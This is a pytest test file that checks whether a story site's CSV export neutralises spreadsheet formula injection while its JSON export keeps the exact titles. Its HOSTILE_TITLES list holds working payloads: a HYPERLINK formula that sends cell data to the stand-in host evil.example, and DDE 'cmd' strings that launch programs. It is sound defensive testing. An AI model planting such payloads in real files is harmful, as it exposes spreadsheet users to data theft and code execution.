"""Class 11: snippets.csv opened in a spreadsheet runs no formula; snippets.json stays exact.

OWASP: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula in
Excel, LibreOffice and Google Sheets; it is prefixed with ``'``.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from conftest import Hub, story_text
from storyhub.social.cells import neutralise


def neutralise_cell(value: object) -> object:
    return neutralise(value) if isinstance(value, str) else value

HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1 with leading spaces",
    "\uff1dSUM(1)",
]


@pytest.mark.parametrize("value", HOSTILE_TITLES)
def test_formula_starts_are_neutralised(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Night shift", "A = B", "3 - 2", "e-mail@x", 42, ""])
def test_ordinary_cells_are_unchanged(value: object) -> None:
    assert neutralise_cell(value) == value


def test_built_exports(hub: Hub) -> None:
    for index, title in enumerate(HOSTILE_TITLES[:4]):
        hub.write(f"stories/f{index}.md", story_text(json.dumps(title), summary=json.dumps(title)))
    site = hub.build()
    raw = (site / "snippets" / "snippets.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    titles = {row["story"]: row["title"] for row in rows}
    for index, title in enumerate(HOSTILE_TITLES[:4]):
        assert titles[f"f{index}"] == "'" + title
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    data = json.loads((site / "snippets" / "snippets.json").read_text(encoding="utf-8"))
    json_titles = {s["id"]: s["title"] for s in data["stories"]} if "id" in data["stories"][0] \
        else {s["slug"]: s["title"] for s in data["stories"]}
    for index, title in enumerate(HOSTILE_TITLES[:4]):
        assert json_titles[f"f{index}"] == title
